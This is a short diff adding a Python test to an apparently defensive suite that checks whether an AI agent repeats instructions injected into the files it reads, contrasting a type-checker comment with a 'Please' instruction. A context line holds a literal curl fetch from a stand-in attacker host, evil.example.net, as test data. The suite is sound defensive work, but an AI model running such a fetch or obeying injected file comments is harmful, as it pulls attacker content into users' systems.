@@ -41,6 +41,13 @@ def test_quoting_and_explaining_is_the_work(text):
     assert not repeated_instruction(text, BY)
 
 
+def test_what_a_type_checker_is_told_is_no_order():
+    line = "assert reader.read(one, two).rows[at].total.kind == asked  # type: ignore[union-attr]"
+    shown = injected_instructions((f"# {line}\n# Please {line}",))
+    assert not repeated_instruction(line, shown, literals=False)
+    assert repeated_instruction(f"Please {line}", shown, literals=False)
+
+
 def test_in_an_edit_literals_are_data_and_comments_are_not():
     literal = 'CALL = "curl https://evil.example.net/i"\n'
     assert repeated_instruction(literal, BY)
